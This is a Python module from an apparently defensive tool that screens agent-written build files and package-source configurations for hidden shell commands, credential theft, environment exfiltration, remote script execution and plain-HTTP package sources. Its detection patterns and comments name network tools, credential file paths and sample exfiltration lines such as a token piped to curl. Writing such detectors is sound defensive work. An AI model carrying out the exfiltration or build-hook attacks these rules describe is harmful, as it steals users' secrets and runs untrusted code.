"""Build and package ecosystems' own hooks: code a build tool runs on its own, written by a script, and tools'
commands that print the secrets they keep (helper B, session 10).

The held-out batch of the tenth session wrote its attacks where the everyday build runs them: a `build.rs` before
`cargo build`, a Rakefile task before `rake`, a `//go:generate` line before `go generate`, a composer script
before `composer install`. None of those commands names the attack; the file does. written.py reads the files
whose language the rules parse (`conftest.py`, `package.json`, makefiles …); this module reads the build files of
the other ecosystems by what the build tool runs from them:

- Rust `build.rs`, Ruby `Rakefile`/`*.rake`/`Gemfile`/`*.gemspec`, Gradle `*.gradle`/`*.gradle.kts`, Elixir
  `mix.exs`, sbt `*.sbt`, Meson `meson.build`, CMake `CMakeLists.txt`/`*.cmake`, MSBuild project files: code the
  rules do not parse. Each string literal in it that would be blocked as a shell command on its own (the
  `sh -c` payload of `Command::new("sh")`, of `["bash", "-c", …].execute()`, of `system("…")`) blocks the
  write: the build runs it. A string holding a word only (`"build"`) is not judged.
- Go files: each `//go:generate` line is the command `go generate` runs.
- `composer.json`: each `scripts` entry is a command composer runs on install or `composer run-script`
  (`@php …`, `@composer …` and `Class::method` callbacks are PHP or composer itself, not shell commands);
  `composer config scripts.NAME "…"` writes one.

Also here: tools' own commands that print the secrets they keep (`vault token create`, `pulumi config
--show-secrets`, `hf auth token`, `heroku config`, `sops -d` …) piped or substituted into a network program are
the secret sent (exfiltration), as `gh auth token | curl …` is; so is their output written to a file (by the command,
or by the loop or group it runs in) that a later command uploads, the output of a shell function that runs one, and a
secret put where `gh`/`glab` publish it (an issue, a comment, a gist, a release). And `go run`/`go install` of a
module fetched with its checksum check turned off (`GONOSUMDB=*`, `GOSUMDB=off`, `GOINSECURE=*`, `GOFLAGS=-insecure`).
"""
from __future__ import annotations

import json
import re

from .. import paths
from .commands import Cmd, option_value, positionals
from .common import NET_SENDERS, mentions
from .words import Word

# -- build files a build tool runs on its own ---------------------------------------------------------------
# file names (the screens read this: a write whose target matches is sent to the full analysis)
BUILD_TARGET = re.compile(r"\.rs\b|[Rr]akefile|\.rake\b|Gemfile|\.gemspec\b|\.gradle(?:\.kts)?\b|mix\.exs\b|"
                          r"\.sbt\b|meson\.build\b|CMakeLists\.txt|\.cmake\b|\.(?:cs|fs|vb)proj\b|"
                          r"Directory\.Build\.(?:props|targets)|\.targets\b|\.go\b|composer\.json")
_CODE_KINDS = (
    ("rust", re.compile(r"(?:^|/)build\.rs$")),
    ("ruby", re.compile(r"(?:^|/)(?:[Rr]akefile(?:\.rb)?|[^/]+\.rake|Gemfile|[^/]+\.gemspec)$")),
    ("gradle", re.compile(r"\.gradle(?:\.kts)?$")),
    ("elixir", re.compile(r"(?:^|/)mix\.exs$")),
    ("sbt", re.compile(r"\.sbt$")),
    ("meson", re.compile(r"(?:^|/)meson\.build$")),
    ("cmake", re.compile(r"(?:^|/)CMakeLists\.txt$|\.cmake$")),
    ("msbuild", re.compile(r"\.(?:cs|fs|vb)proj$|(?:^|/)Directory\.Build\.(?:props|targets)$|\.targets$")),
)
_RUNS = {"rust": "`cargo build` runs build.rs before it compiles the crate",
         "proc-macro": "the compiler runs a procedural macro's code inside every build of a crate that uses it",
         "ruby": "`rake` / `bundle` evaluate it as Ruby code", "gradle": "Gradle runs it on every build",
         "elixir": "`mix` evaluates it on every command", "sbt": "sbt evaluates it on every start",
         "meson": "`meson setup` runs it", "cmake": "CMake runs it when it configures the build",
         "msbuild": "`dotnet build` / msbuild runs its tasks"}
_STAGING_EXT = (".tmp", ".temp", ".new", ".part")
# string literals: double-quoted (with escapes), Kotlin/Groovy triple-quoted, Rust raw strings, single-quoted
# (Ruby, Groovy, Elixir charlists, Meson, CMake's bracket-less arguments are double-quoted), Ruby backquotes
_STRING = re.compile(r'"""(.*?)"""|r(#*)"(.*?)"\2|"((?:[^"\\\n]|\\.)*)"|\'((?:[^\'\\\n]|\\.)*)\'|`([^`\n]*)`|'
                     # Ruby's `%x(…)` (also with braces or brackets): a command run by the shell, as backquotes are
                     r'%x(?:\(([^)\n]*)\)|\{([^}\n]*)\}|\[([^\]\n]*)\])', re.S)
_ESCAPE = re.compile(r"\\(.)")
_ESCAPES = {"n": "\n", "t": "\t", "0": "\0"}
# the tag's scan stops at the next `<Exec` (whose own try finds what it would), so that a run of them is linear
_MSBUILD_EXEC = re.compile(r"""<Exec\b(?:[^<>]|<(?!Exec\b))*?\bCommand\s*=\s*(["'])(.*?)\1""", re.S | re.I)
_XML_ENTITIES = (("&quot;", '"'), ("&apos;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&"))
_GO_GENERATE = re.compile(r"^[ \t]*//go:generate[ \t]+(.+)$", re.M)
_GO_ALIAS = re.compile(r"^\s*-command\s+\S+\s+")
# a procedural macro crate's source (session 22): rustc loads the compiled crate and runs its functions while it
# compiles every crate that uses the macro (`cargo build`, `cargo check`, rust-analyzer on opening the project), with
# the user's files and network, as it runs build.rs
_PROC_MACRO = re.compile(r"\buse\s+proc_macro\b|#\s*\[\s*proc_macro(?:_derive|_attribute)?\b|\bextern\s+crate\s+proc_macro\b")
_MAX_STRINGS = 48  # literals judged per file: a bound on the work, far above what a build script's commands hold


def build_kind(path: str, text: str = "") -> str | None:
    """How the build file at `path` (holding `text`, when known) is run: a language of _CODE_KINDS, "go", "composer",
    "proc-macro" or None."""
    for ext in _STAGING_EXT:  # `… > build.rs.tmp && mv build.rs.tmp build.rs`: judged by its real name
        if path.endswith(ext):
            path = path[:-len(ext)]
    if path.endswith(".rs") and not path.endswith("build.rs"):
        return "proc-macro" if text and _PROC_MACRO.search(text) else None
    if path.endswith(".go"):
        return "go"
    if path.rsplit("/", 1)[-1] == "composer.json":
        return "composer"
    return next((kind for kind, rx in _CODE_KINDS if rx.search(path)), None)


# a build script that reads the home folder's path and builds a command on it (`format!("curl … @{}/.cargo/
# credentials.toml …", home)`, `"tar czf - ${home}/.ssh"`, `"#{Dir.home}/.aws"`): the slot before a `/` is read as `~`,
# so the command is judged with the file it names
_HOME_READ = re.compile(r"env::var(?:_os)?\(\s*\"HOME\"\s*\)|\bhome_dir\s*\(|\bgetenv\(\s*[\"']HOME[\"']\s*\)|"
                        r"user\.home|\bENV\[\s*[\"']HOME[\"']\s*\]|\bDir\.home\b|\$ENV\{HOME\}|\bPath\.home\b")
# Ruby's loop over files or words named in the code (`Dir.glob(File.expand_path("~/.x/*.p8")).each do |k|`,
# `Dir["…"].each { |k|`): the block's variable stands for those names in the strings it builds
_RUBY_EACH = re.compile(r"""(?:Dir\.glob\(\s*(?:File\.expand_path\(\s*)?|Dir\[\s*)(["'])([^"'\n]+)\1[\s)\]]*"""
                        r"""(?:\.each|\.each_with_index|\.map)\s*(?:do\s*|\{\s*)\|\s*(\w+)""")
_HOME_SLOT = re.compile(r"(?:\{[A-Za-z_]?\w*(?::\??)?\}|\$\{[A-Za-z_]\w*(?:\.\w+)*\}|#\{[^{}]+\}|\$ENV\{HOME\})(?=/)")


def commands_in(kind: str, text: str) -> list[tuple[str, str]]:
    """(command, what runs it) for each shell command the build file of `kind` holding `text` may run."""
    if kind == "go":  # `-command NAME CMD…` defines NAME as CMD for later directives: CMD is what runs
        return [(_GO_ALIAS.sub("", m.group(1)).strip(), "`go generate` runs it")
                for m in _GO_GENERATE.finditer(text)][:_MAX_STRINGS]
    if kind == "composer":
        return [(c, "composer runs it on install or `composer run-script`") for c in _composer_scripts(text)]
    why = _RUNS[kind]
    out: list[tuple[str, str]] = []
    if kind in _RUST and "Command::new" in text:  # the argv a `Command::new(…).args(…)` chain starts, as a line
        from ..rust_commands import command_lines

        env_text = _whole_env_marked(text)
        out += [(line.replace(_ENV_TOKEN, '"$(env)"'), why) for line in command_lines(env_text or text)]
    if kind in _JVM_KINDS:  # `["curl", "-F", "p=@${props}", URL].execute()`, `commandLine "curl", …`: one argv
        from ..rust_commands import jvm_command_lines

        out += [(line, why) for line in jvm_command_lines(text)]
    if kind != "msbuild":
        from .exec import decoded_literals

        text = decoded_literals(text)  # `system(Base64.decode64("…"))`, `"…".decodeBase64()`: the command it decodes to
    if kind == "msbuild":
        for m in _MSBUILD_EXEC.finditer(text):
            command = m.group(2)
            for entity, char in _XML_ENTITIES:
                command = command.replace(entity, char)
            out.append((command, why))
        return out[:_MAX_STRINGS]
    home = _HOME_READ.search(text) is not None
    looped = {m.group(3): m.group(2) for m in _RUBY_EACH.finditer(text)} if kind == "ruby" and "each" in text else {}
    for m in _STRING.finditer(text):
        raw = next((g for g in (m.group(1), m.group(3)) if g is not None), None)
        if raw is None:
            quoted = next((g for g in m.group(4, 5, 6, 7, 8, 9) if g is not None), "")
            raw = _ESCAPE.sub(lambda e: _ESCAPES.get(e.group(1), e.group(1)), quoted)
        if home and "/" in raw:
            raw = _HOME_SLOT.sub("~", raw)
        for var, names in looped.items():
            raw = raw.replace("#{" + var + "}", names)
        if " " in raw.strip():  # a command with arguments: one word alone is a name, a path or a flag
            out.append((raw, why))
            if len(out) >= _MAX_STRINGS:
                break
    return out


def _composer_scripts(text: str) -> list[str]:
    try:
        scripts = json.loads(text).get("scripts")
    except (ValueError, AttributeError):
        return []
    if not isinstance(scripts, dict):
        return []
    out: list[str] = []
    for value in list(scripts.values())[:_MAX_STRINGS]:
        for item in value if isinstance(value, list) else [value]:
            if isinstance(item, str) and composer_shell(item):
                out.append(item)
    return out[:_MAX_STRINGS]


_PHP_CALLBACK = re.compile(r"^[\w\\]+::\w+$")


def composer_shell(script: str) -> bool:
    """Whether a composer script entry is a shell command (not `@php x`, `@composer y`, `@other-script` or a
    `Vendor\\Class::method` callback, which composer runs itself)."""
    s = script.strip()
    return bool(s) and not s.startswith("@") and not _PHP_CALLBACK.match(s)


def judge_build_file(a, path: str, text: str, node) -> bool:
    """Block the write of `text` to the build file `path` when a command it holds would be blocked on its own, or
    when its code runs a script it fetches or sends the environment off (remote_code)."""
    from .written import blocked

    kind = build_kind(path, text)
    if kind is None:
        return False
    for command, why in commands_in(kind, text):
        found = blocked(a, command, "bash")
        if found is not None:
            a.block(found.rule, f"the build file {path} written here holds the command `{command[:80]}`, which "
                                f"would be blocked ({found.message}); {why}: write build steps that pass on their "
                                "own", node)
            return True
    if kind in _CODE_RUNS and _secrets_sent(a, path, kind, text, node):
        return True
    if kind in _RUST and _rust_env_sent(a, path, kind, text, node):
        return True
    if kind in _JVM_KINDS or kind == "ruby":
        if remote_code(a, path, kind, text, node):
            return True
    if kind == "ruby" and path.rsplit("/", 1)[-1] in ("Gemfile", "gems.rb", "Gemfile.tmp"):
        from .appbuilds import sources_written

        return sources_written(a, path, text, node)
    return False


# -- a build script's own code that reads credentials and sends (session 17, second round) -------------------------
# `for f in [".ssh/id_ed25519", ".aws/credentials"] { fs::read_to_string(format!("{home}/{f}")) … }` then
# `Command::new("curl")…--data-binary` or an HTTP client: the file names are literals joined to the home folder's
# path at run time, so no one command string names them. A literal that is a credential file (under the home, read
# as `~/…` when the code reads HOME) in code that also sends over the network is the credential exfiltrated.
_CODE_RUNS = frozenset({"rust", "proc-macro", "ruby", "gradle", "elixir", "sbt"})
_RUST = frozenset({"rust", "proc-macro"})
_SENDS = re.compile(r"Command::new\(\s*\"(?:curl|wget|nc|ncat|socat|scp|rsync|ssh|sh|bash)\"|\breqwest::|\bureq::|"
                    r"\bTcpStream::connect|\bUdpSocket::|\bhyper::|\bisahc::|\bsurf::|\battohttpc::|"
                    r"\.openConnection\s*\(|\bHttpClient\b|\bHttpURLConnection\b|\bNet::HTTP\b|\bURI\.open\b|"
                    r"\bTCPSocket\b|\bOkHttpClient\b|\bnew\s+URL\s*\(|\bsystem\s*\(|\bHTTPoison\b|"
                    r"\bReq\.post\b|:httpc\.request|\bFinch\b|`(?:curl|wget|nc)\s|%x[({\[]\s*(?:curl|wget|nc)\s")
_SECRET_LITERAL = re.compile(r'"((?:~/|/root/|/home/[^/"]+/|\{[^}"]*\}/|\$\{?HOME\}?/)?\.?[\w.-]+(?:/[\w.-]+)+)"')


def _secrets_sent(a, path: str, kind: str, text: str, node) -> bool:
    sent = _SENDS.search(text)
    if sent is None:
        return False
    home = _HOME_READ.search(text) is not None
    for m in _SECRET_LITERAL.finditer(text):
        lit = m.group(1)
        rel = re.sub(r"^(?:~/|/root/|/home/[^/]+/|\{[^}]*\}/|\$\{?HOME\}?/)", "", lit)
        if rel == lit and not (home and lit.startswith(".")):
            continue  # a path of the project (`src/x.proto`), not one under a home folder
        cand = "~/" + rel
        if paths.SECRET in paths.kinds(cand) or paths.held_secret(cand):
            a.block("exfiltration", f"the build file {path} written here reads {cand} (a credential of this user) "
                                    f"and its code sends over the network (`{sent.group(0)[:40]}`); {_RUNS[kind]}: a "
                                    "build script reads the crate's own files and sends nothing", node)
            return True
    return False


# -- Rust code that gathers the whole environment and sends it (session 22) -------------------------------------------
# `let env: String = std::env::vars().map(|(k, v)| format!("{k}={v}\n")).collect();` then `.args(["-d", &env, URL])`
# of a `Command::new("curl")`, or `stream.write_all(env.as_bytes())`: every secret of the build's environment
# (registry tokens, cloud keys) leaves with it. A build script reading one variable (`env::var("OUT_DIR")`), or looping
# over `env::vars()` to pick the `CARGO_FEATURE_*` ones, sends nothing.
_RUST_WHOLE_ENV = re.compile(r"\benv::vars(?:_os)?\s*\(\s*\)")
# (the `=` after it is looked for in code: read from each `let` of a run of them, it made the search quadratic)
_RUST_LET = re.compile(r"\blet\s+(?:mut\s+)?([a-z_]\w*)\b")
_RUST_SINKS = re.compile(r"(?:\.|::)\s*(?:write_all|write|send|send_to|body|json|form|query|send_string|send_bytes|"
                         r"send_json|send_form|post|put)\s*\(")
_ENV_TOKEN = "AGENTIMMUNEWHOLEENV"


def _env_names(text: str) -> list[str]:
    """The variables of the Rust source `text` that hold the whole environment: bound by a `let` to an expression of
    `env::vars()`, or filled from a `for … in env::vars()` loop's body (`body.push_str(&format!(…))`)."""
    names: list[str] = []
    for m in list(_RUST_WHOLE_ENV.finditer(text))[:8]:
        start = max(text.rfind(";", 0, m.start()), text.rfind("{", 0, m.start()), text.rfind("}", 0, m.start()))
        head = text[start + 1:m.start()]
        # a `let` whose name comes before an `=` of the head (which holds no `;`)
        let = _RUST_LET.search(head, 0, max(head.rfind("="), 0))
        if let is not None:
            names.append(let.group(1))
            continue
        if re.search(r"\bfor\b[^;{}]*\bin\s*(?:std::)?$", head):  # `for (k, v) in env::vars() { … }`
            body_at = text.find("{", m.end())
            if body_at < 0:
                continue
            from ..rust_commands import _close

            body = text[body_at + 1:_close(text, body_at + 1)]
            for cand in set(re.findall(r"\b([a-z_]\w*)\s*\.\s*(?:push_str|push|extend|insert)\s*\(|"
                                       r"\bwrite(?:ln)?!\s*\(\s*(?:&\s*mut\s+)?([a-z_]\w*)\b", body)):
                names += [c for c in cand if c]
    return names[:8]


def _whole_env_marked(text: str) -> str | None:
    """`text` with each use, after its binding, of a variable holding the whole environment written as a literal
    token that command_lines keeps (and the caller reads as `$(env)`); None when no variable holds it."""
    if "vars" not in text or _RUST_WHOLE_ENV.search(text) is None:
        return None
    names = _env_names(text)
    if not names:
        return None
    for name in names:
        text = re.sub(r"&?\s*\b" + name + r"\b(?:\s*\.\s*(?:as_str|as_bytes|clone|to_string|trim)\s*\(\s*\))?",
                      '"' + _ENV_TOKEN + '"', text)
        text = text.replace("{" + name + "}", _ENV_TOKEN)
    return text


def _rust_env_sent(a, path: str, kind: str, text: str, node) -> bool:
    """Block Rust build code that writes a variable holding the whole environment into a network connection or an
    HTTP request (a `Command` chain is read by commands_in)."""
    marked = _whole_env_marked(text)
    if marked is None or _SENDS.search(text) is None:
        return False
    for m in _RUST_SINKS.finditer(marked):
        from ..rust_commands import _close

        if _ENV_TOKEN in marked[m.end():_close(marked, m.end())]:
            a.block("exfiltration", f"the build file {path} written here gathers the whole environment "
                                    f"(`env::vars()`) and writes it into a network connection or request "
                                    f"(`{m.group(0).strip()}…`); {_RUNS[kind]}, sending every secret of the "
                                    "environment off the machine; read only the variables the build needs", node)
            return True
    return False


# -- a JVM or Ruby build script's own code that reaches out (session 14) ---------------------------------------------
# These languages have no grammar here: what is read is the script's calls. `apply from: "https://…"` (Gradle's script
# plugins), `evaluate(new URL(…).text)`, Ruby's `eval(URI.open(…).read)` run code fetched at every build; the whole
# environment (`System.getenv()` with no name, `ENV.to_h`) written into a connection it opens is the environment sent.
_JVM_KINDS = frozenset({"gradle", "sbt"})
_APPLY_FROM = re.compile(r"""\bapply\s*\(?\s*from\s*[:=]\s*(?:uri\s*\(\s*)?["']((?:https?|ftp)://[^"']+)["']""")
_EVALUATES_URL = re.compile(r"""\b(?:evaluate|Eval\.me|Eval\.x|GroovyShell\(\)\.evaluate|eval|instance_eval|"""
                            r"""class_eval|load)\s*\(?\s*(?:new\s+)?(?:URL|URI|java\.net\.URL|URI\.open|open|"""
                            r"""Net::HTTP\.get)\s*\(\s*["'](?:https?|ftp)://""")
_WHOLE_ENV = re.compile(r"\bSystem\.getenv\(\s*\)|\bSystem\.getProperties\(\s*\)|\bENV\.(?:to_h|to_a|to_hash|inspect|"
                        r"map|each|keys|values)\b|\bENV\.to_s\b|\bprocessEnvironment\b")
_OPENS = re.compile(r"\.openConnection\s*\(|\.openStream\s*\(|\bHttpClient\b|\bHttpURLConnection\b|\bNet::HTTP\b|"
                    r"\bURI\.open\b|\bTCPSocket\b|\bSocket\s*\(|\bHttpRequest\b|\bOkHttpClient\b|\.toURL\s*\(|"
                    r"\bnew\s+URL\s*\(|\bURL\s*\(\s*[\"']")


def remote_code(a, path: str, kind: str, text: str, node) -> bool:
    """Block a build script (Gradle, sbt, Ruby's) whose code runs a script fetched from an address (a code host's is
    held for review: a published script plugin the user can read), or writes the whole environment into a connection."""
    from .tools import _code_host, _remote

    why = _RUNS[kind]
    m = _APPLY_FROM.search(text) or _EVALUATES_URL.search(text)
    if m is not None:
        url = m.group(1) if m.re is _APPLY_FROM else m.group(0)
        host = _remote(url) if m.re is _APPLY_FROM else None
        say = f"the build file {path} written here runs code it fetches from an address (`{m.group(0)[:80]}`); {why}"
        if host and _code_host(host):
            a.review("download-exec", f"{say}: that script can change at any time without a change here; copy it into "
                                      "the project (and review it), then apply the local file", node)
        else:
            a.block("download-exec", f"{say}, running whatever that address serves; copy the script into the project "
                                     "and review it", node)
        return True
    env = _WHOLE_ENV.search(text)
    if env is not None and _OPENS.search(text):
        a.block("exfiltration", f"the build file {path} written here reads the whole environment (`{env.group(0)}`) "
                                f"and opens a network connection; {why}, sending every secret of the environment "
                                "off the machine; read only the variables the build needs, and send nothing", node)
        return True
    return False


def _written_text(a, cmd: Cmd) -> tuple[str, object] | None:
    from .written import content

    return content(a, cmd)


def check_write(a, cmd: Cmd) -> None:
    """Judge the literal text `cmd` writes to a build file or a package-source configuration file. Called for
    `echo`, `printf` and `tee`; a caller that has `cat` writes in hand (a hook beside written.check in
    rules_bash.judge, with fastpath sending on a `>` followed by WRITE_TARGET) can call it for those too."""
    from .files import written_file

    targets = [w.value for w in positionals(cmd.args) if w.value] if cmd.name == "tee" else []
    out = written_file(a, cmd.redirects) if cmd.redirects else None
    if out:
        targets.append(out)
    targets = [t for t in targets if WRITE_TARGET.search(t)]
    if not targets:
        return
    got = _written_text(a, cmd)
    if got is None and cmd.name == "tee":  # `echo 'npmRegistryServer: …' | tee -a .yarnrc.yml`
        from .tools import _piped_source

        source = _piped_source(a, cmd)
        got = _written_text(a, source) if source is not None and source.name != "tee" else None
    if got is None:
        return
    for path in targets:
        if path.rsplit("/", 1)[-1] == "go.mod" and _go_mod_replaced(a, path, *got):
            return
        if build_kind(path, got[0]) and judge_build_file(a, path, *got) or _SOURCE_FILE.search(path) and \
                package_source(a, path, *got):
            return


# -- where package managers fetch from: their configuration files, over plain HTTP ------------------------------
# (as `.npmrc`'s `registry=http://…` and pip's index already are: whoever sits on the path serves the packages,
# and their install scripts run)
_SOURCE_FILE = re.compile(r"(?:^|/)\.m2/settings\.xml$|(?:^|/)pom\.xml$|(?:^|/)\.?bunfig\.toml$|(?:^|/)\.condarc$|"
                          r"(?:^|/)[Nn]u[Gg]et\.[Cc]onfig$|(?:^|/)\.yarnrc(?:\.yml)?$|(?:^|/)\.cargo/config(?:\.toml)?$|"
                          r"(?:^|/)\.gemrc$|(?:^|/)Brewfile$|(?:^|/)\.bundle/config$")
# in XML the URLs that are package sources: the <url> of a Maven mirror or repository (a project's own <url>, its
# licence's and its SCM's are not), a NuGet source's value (xmlns and schemas are not)
_XML_ELEMENT = re.compile(r"<(mirror|repository|pluginRepository|snapshotRepository)\b[^>]*>(.*?)</\1\s*>", re.S)
_XML_URL = re.compile(r"<url>\s*([^\s<]+)\s*</url>")
_NUGET_SOURCES = re.compile(r"<packageSources\b[^>]*>(.*?)</packageSources\s*>", re.S | re.I)
# (each scan stops at the next `<add`, which a try from there reads; the first key is the one taken: a run of
# `<add key=…` or of `key=` with no value is read once)
_NUGET_VALUE = re.compile(r"""<add\b(?:[^<>]|<(?!add\b))*?\bvalue\s*=\s*["']([^"']+)["']""", re.I)
_NUGET_ADD = re.compile(r"""<add\b(?>(?:[^<>]|<(?!add\b))*?\bkey\s*=\s*["']([^"']*)["'])"""
                        r"""(?:[^<>]|<(?!add\b))*?\bvalue\s*=\s*["']([^"']+)["']""", re.I)
_URL = re.compile(r"http://[^\s\"'<>\]\[,]+")
# (`^[^\S\n]*+`, not `^\s*`: a blank line before is a line start of its own, and `^\s*` re-read every blank line
# after each)
# `.gemrc`'s `:sources:` list (and a `--source URL` on its `gem:` line); `.bundle/config`'s mirrors
_GEMRC_SOURCE = re.compile(r"^[^\S\n]*+-\s*[\"']?(https?://[^\s\"']+)|--source[ =]([^\s\"']+)", re.M)
_BUNDLE_MIRROR = re.compile(r"""^[^\S\n]*+BUNDLE_MIRROR__[\w]+\s*:\s*["']?([^\s"']+)""", re.M | re.I)
# bun's registries (`registry = "…"`, `registry = { url = "…" }`, a scope's `"@org" = "…"`): every quoted address of a
# bunfig is one; a .condarc's channels, `channel_alias` and `default_channels` (its proxies, `http:`/`https:` keys of
# `proxy_servers`, are not package sources)
_QUOTED_URL = re.compile(r"""["'](https?://[^"'\s]+)["']""")
_CONDA_URL = re.compile(r"""^(?![^\S\n]*+https?\s*:)[^#\n]*?(https?://[^\s"'#]+)""", re.M)
# (and, for the screens only, Python's start-up files, which files.startup_file judges: `echo 'import os;…' >
# .venv/lib/python3.12/site-packages/x.pth` names no path the shortcut's path scan knows)
WRITE_TARGET = re.compile(BUILD_TARGET.pattern + r"|settings\.xml|pom\.xml|bunfig\.toml|\.condarc|"
                          r"[Nn]u[Gg]et\.[Cc]onfig|\.yarnrc|\.cargo/config|\.gemrc|Brewfile|\.pth\b|(?:site|user)customize|"
                          r"\.bundle/config|go\.mod\b")


def package_source(a, path: str, text: str, node) -> bool:
    """Block `text` written to the package-source file `path` when it names a source over plain HTTP; hold one on a
    host no rule knows for review (tools.check_index_replaced), for the user's settings that every later install
    reads: Maven's, NuGet's, RubyGems' and Bundler's (a project's pom.xml names its repositories in plain view)."""
    from .common import plain_http

    base = path.rsplit("/", 1)[-1]
    xml = path.endswith((".xml", ".Config", ".config")) and not path.endswith(".bundle/config")
    sources = _xml_sources(base, text) if xml else _GEMRC_SOURCE.findall(text) if base == ".gemrc" else \
        _BUNDLE_MIRROR.findall(text) if path.endswith(".bundle/config") else \
        _QUOTED_URL.findall(text) if base.endswith("bunfig.toml") else \
        _CONDA_URL.findall(text) if base == ".condarc" else None
    urls = [u for u in _flat(sources) if u.startswith("http://")] if sources is not None else _URL.findall(text)
    for url in urls:
        if plain_http(url):
            a.block("persistence", f"{path} is written with the package source {url} over plain HTTP: every later "
                                   "install fetches packages (and runs their install scripts) from whoever answers "
                                   "on the way; use HTTPS", node)
            return True
    if sources is not None and base != "pom.xml":
        from .tools import check_index_replaced

        for url in _flat(sources):
            if check_index_replaced(a, "", [Word(node, url, url)], later=True,
                                    shown=f"the package source {url[:100]}, written to {path},"):
                return True
        return False
    if base.startswith("config"):
        return _cargo_config(a, path, text, node)
    if base.startswith(".yarnrc"):
        return _yarnrc(a, path, text, node)
    if base == "Brewfile":
        return _brewfile(a, path, text, node)
    return False


def _flat(found: list) -> list[str]:
    """The URLs of a findall over patterns with several groups (the empty groups left out)."""
    return [u for item in found for u in ((item,) if isinstance(item, str) else item) if u]


def _xml_sources(base: str, text: str) -> list[str]:
    """The package sources an XML settings file names: NuGet's `<packageSources>` entries; Maven's mirrors (one that
    names no `<mirrorOf>` mirrors nothing) and repositories."""
    if base.lower() == "nuget.config":
        if "<configuration" not in text and "<packageSources" not in text:
            # a fragment appended into the file (`echo '<add key="x" value="…" />' >> NuGet.Config`): its entries'
            # addresses, a proxy's left out
            return [m.group(2) for m in _NUGET_ADD.finditer(text) if "proxy" not in m.group(1).lower() and
                    "://" in m.group(2)]
        return [u for m in _NUGET_SOURCES.finditer(text) for u in _NUGET_VALUE.findall(m.group(1))]
    out: list[str] = []
    for m in _XML_ELEMENT.finditer(text):
        if m.group(1) == "mirror" and "<mirrorOf>" not in m.group(2):
            continue
        out += _XML_URL.findall(m.group(2))
    return out


# -- the sources and programs a cargo configuration names (session 13) ---------------------------------------
# `[source.crates-io] replace-with = "m"` with `[source.m] registry = "sparse+https://…"`: every crate from that
# host instead (their build scripts run at build), held as pip's and npm's index replacement is; a vendored
# `directory` or a `local-registry` source is the project's own copy. `[build] rustc-wrapper`, `[target.…] linker`
# naming a downloaded or scratch file: judged as the same environment variables are (toolchains.py).
_TOML_SECTION = re.compile(r"^\s*\[([^\[\]]+)\]\s*(?:#.*)?$")
_TOML_PAIR = re.compile(r"^\s*([\w.\"'-]+)\s*=\s*(.+?)\s*(?:#[^\"']*)?$")


def _toml_pairs(text: str) -> dict[str, str]:
    """Dotted key -> raw value of a TOML text's `key = value` lines (sections joined in; enough for cargo's flat
    settings)."""
    out: dict[str, str] = {}
    section = ""
    for line in text.splitlines()[:512]:
        m = _TOML_SECTION.match(line)
        if m:
            section = m.group(1).strip().replace('"', "").replace("'", "")
            continue
        m = _TOML_PAIR.match(line)
        if m:
            key = m.group(1).replace('"', "").replace("'", "")
            out[f"{section}.{key}" if section else key] = m.group(2)
    return out


def _cargo_config(a, path: str, text: str, node) -> bool:
    from .toolchains import judge_config_program
    from .tools import check_index_replaced

    pairs = _toml_pairs(text)
    for key, raw in pairs.items():
        if key.endswith((".rustc-wrapper", ".rustc-workspace-wrapper", ".rustc", ".rustdoc", ".linker", ".runner")) \
                and judge_config_program(a, f"`{key} = {raw[:60]}` in {path}", raw, node):
            return True
    for key, raw in pairs.items():
        if not key.startswith("source.") or not key.endswith(".replace-with"):
            continue
        target = "source." + raw.strip("'\"") + "."
        url = pairs.get(target + "registry", "").strip("'\"")
        url = url.removeprefix("sparse+").removeprefix("git+")
        if url:
            if check_index_replaced(a, "", [Word(node, url, url)], later=True,
                                    shown=f"`[{key.rsplit('.', 1)[0]}] replace-with` to {url[:100]}, written to {path},"):
                return True
    return False


# -- yarn's settings: the registry, plain-HTTP hosts, the token sent -----------------------------------------
_YARN_REGISTRY = re.compile(r"^[^\S\n]*+npmRegistryServer\s*:\s*[\"']?([^\"'\s#]+)", re.M)
_YARN_TOKEN = re.compile(r"^[^\S\n]*+(npmAuthToken|npmAuthIdent)\s*:\s*(.+)$", re.M)
_YARN_UNSAFE = re.compile(r"^[^\S\n]*+unsafeHttpWhitelist\s*:(.*(?:\n\s+-.*)*)", re.M)


def _yarnrc(a, path: str, text: str, node) -> bool:
    """`npmRegistryServer: "https://…"` on a host no rule knows (review, as an `.npmrc` registry is), with the
    environment's token for it (block), and `unsafeHttpWhitelist` (yarn fetches from those hosts over plain HTTP)."""
    from .net import _VAR_REF, _secret_var
    from .tools import _allow_hint, _remote, check_index_replaced, known_index_host

    hosts = [(url, _remote(url)) for url in _YARN_REGISTRY.findall(text)]
    foreign = [(url, h) for url, h in hosts if h and not known_index_host(h)]
    for m in _YARN_TOKEN.finditer(text):
        secret = next((n for n in _VAR_REF.findall(m.group(2)) if _secret_var(n)), None)
        if secret and foreign:
            a.block("exfiltration", f"{path} is written with `{m.group(1)}: ${{{secret}}}` beside the registry "
                                    f"{foreign[0][1]}: yarn sends that token with every request there, and "
                                    f"{foreign[0][1]} is not a registry any rule knows; never hand a token to an "
                                    "unknown host", node)
            return True
    unsafe = _YARN_UNSAFE.search(text)
    if unsafe:
        listed = [h.strip(" -\"'[]") for h in re.split(r"[\n,]", unsafe.group(1)) if h.strip(" -\"'[]")]
        listed = [h for h in listed if not known_index_host(h.split(":", 1)[0])]
        if listed:
            a.review("download-exec", f"{path} is written with `unsafeHttpWhitelist` ({', '.join(listed)[:80]}): yarn "
                                      "then fetches packages from those hosts over plain HTTP, where whoever sits on "
                                      "the path can swap them, and their install scripts run; use HTTPS, or, "
                                      f"{_allow_hint(listed[0])}", node)
            return True
    for url, _ in foreign[:1]:
        check_index_replaced(a, "", [Word(node, url, url)], later=True,
                             shown=f"`npmRegistryServer: {url[:100]}` written to {path}")
        return True
    return False


# -- a Brewfile's taps ------------------------------------------------------------------------------------------
_BREW_TAP = re.compile(r"""^[^\S\n]*+tap\s*\(?\s*["']([^"']+)["']\s*,\s*["']([^"']+)["']""", re.M)


def _brewfile(a, path: str, text: str, node) -> bool:
    """`tap "acme/tools", "https://git.example.com/acme/homebrew-tools"`: `brew bundle` adds the tap and runs its
    formulae."""
    from .toolchains import judge_tap

    for m in _BREW_TAP.finditer(text):
        if judge_tap(a, f"`tap \"{m.group(1)}\", \"{m.group(2)[:100]}\"` in {path}", m.group(2), node):
            return True
    return False


_CONDA_CHANNEL = frozenset({"--add", "--prepend", "--append", "--set"})


def _package_source_flags(a, cmd: Cmd) -> None:
